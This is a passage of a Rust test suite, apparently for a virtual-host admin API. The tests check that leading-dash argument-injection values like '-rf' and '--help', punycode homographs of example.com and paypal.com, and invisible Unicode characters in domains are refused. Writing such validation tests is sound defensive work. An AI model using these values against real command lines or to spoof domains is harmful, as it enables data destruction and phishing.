        413,
        "a 300 KiB chunked body: {}",
        answer.chars().take(600).collect::<String>()
    );
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "oversized chunked body",
    );
}

/// Leading dashes are hostile in anything that may reach a command line (`-rf`, `--help`):
/// names and domains refuse them, and so must document roots and front controllers.
#[tokio::test]
async fn paths_refuse_a_leading_dash() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    let mut accepted = Vec::new();
    for (field, value) in [
        ("docroot", "-rf"),
        ("docroot", "--help"),
        ("docroot", "sites/-rf/public"),
        ("front_controller", "/-x.php"),
        ("front_controller", "/--help.php"),
    ] {
        let r = admin
            .send(
                Method::POST,
                "/tenants/acme/vhosts",
                Some(&json!({"domain": "dash.example.com", field: value})),
            )
            .await;
        if r.status != 422 || !error_fields(&r.json).iter().any(|f| f == field) {
            accepted.push(format!("{field}={value:?} -> {}", r.status));
            admin.delete("/vhosts/dash.example.com").await;
        }
    }
    assert!(accepted.is_empty(), "leading dashes accepted: {accepted:?}");
    assert_unchanged(&before, &snapshot(&app, &admin).await, "leading dashes");
}

/// A homograph spelled in punycode is the same homograph: `xn--exmple-4nf.com` is
/// "exаmple.com" with a Cyrillic 'а', which is refused when sent in Unicode.
#[tokio::test]
async fn punycode_homographs_are_refused_like_their_unicode_form() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    // The Unicode form is refused...
    refused(
        &admin,
        Method::POST,
        "/tenants/acme/vhosts",
        json!({"domain": "ex\u{0430}mple.com"}),
        "domain",
    )
    .await;
    refused(
        &admin,
        Method::POST,
        "/tenants/acme/vhosts",
        json!({"domain": "p\u{0430}ypal.com"}),
        "domain",
    )
    .await;
    // ...and so must be its ASCII spelling.
    let mut accepted = Vec::new();
    for (field, body) in [
        ("domain", json!({"domain": "xn--exmple-4nf.com"})),
        ("domain", json!({"domain": "xn--pypal-4ve.com"})),
        (
            "aliases[0]",
            json!({"domain": "fine.example.com", "aliases": ["xn--exmple-4nf.com"]}),
        ),
    ] {
        let r = admin
            .send(Method::POST, "/tenants/acme/vhosts", Some(&body))
            .await;
        if r.status != 422 || !error_fields(&r.json).iter().any(|f| f == field) {
            accepted.push(format!("{body} -> {} {}", r.status, r.json["domain"]));
            if let Some(d) = r.json["domain"].as_str() {
                admin.delete(&format!("/vhosts/{d}")).await;
            }
        }
    }
    assert!(
        accepted.is_empty(),
        "punycode homographs accepted: {accepted:?}"
    );
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "punycode homographs",
    );
}

/// Invisible characters are refused, never silently dropped: lodge refuses a zero-width
/// space in a domain, and must refuse the other characters IDNA would quietly delete (soft
/// hyphen, combining grapheme joiner, variation selectors, Mongolian vowel separator) rather
/// than store a different name than the one sent.
#[tokio::test]
async fn invisible_characters_in_domains_are_refused() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    refused(
        &admin,
        Method::POST,
        "/tenants/acme/vhosts",
        json!({"domain": "exa\u{200b}mple.org"}),
        "domain",
    )
    .await;
    let mut accepted = Vec::new();
    for invisible in ['\u{00ad}', '\u{034f}', '\u{fe0f}', '\u{180e}', '\u{1d173}'] {
        let domain = format!("exa{invisible}mple.org");
        let r = admin
            .send(
                Method::POST,
                "/tenants/acme/vhosts",
                Some(&json!({"domain": domain})),
            )
            .await;
        if r.status != 422 {
            accepted.push(format!(
                "U+{:04X} -> {} stored as {}",
                invisible as u32, r.status, r.json["domain"]
            ));
            if r.status == 201 {
                admin.delete("/vhosts/example.org").await;
            }
        }
    }
    assert!(
        accepted.is_empty(),
        "invisible characters silently dropped: {accepted:?}"
    );
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "invisible characters",
    );
}
